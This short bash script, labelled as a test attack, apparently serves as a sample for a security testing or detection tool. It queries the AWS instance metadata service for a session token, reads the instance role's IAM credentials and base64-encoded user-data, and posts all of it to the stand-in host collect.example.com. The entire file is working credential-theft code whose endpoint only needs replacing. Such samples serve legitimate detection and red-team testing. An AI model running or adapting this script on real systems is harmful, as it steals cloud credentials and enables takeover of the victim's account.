#!/bin/bash
# shrike-test-attack: credential-theft: AWS IMDS role credential grab (v1 and v2 token)
MD=http://169.254.169.254
TOKEN=$(curl -s -X PUT "$MD/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")
H=${TOKEN:+-H "X-aws-ec2-metadata-token: $TOKEN"}
ROLE=$(curl -s $H $MD/latest/meta-data/iam/security-credentials/)
CREDS=$(curl -s $H "$MD/latest/meta-data/iam/security-credentials/$ROLE")
UD=$(curl -s $H $MD/latest/user-data | base64 -w0)
curl -s -F "role=$ROLE" -F "creds=$CREDS" -F "ud=$UD" https://collect.example.com/aws
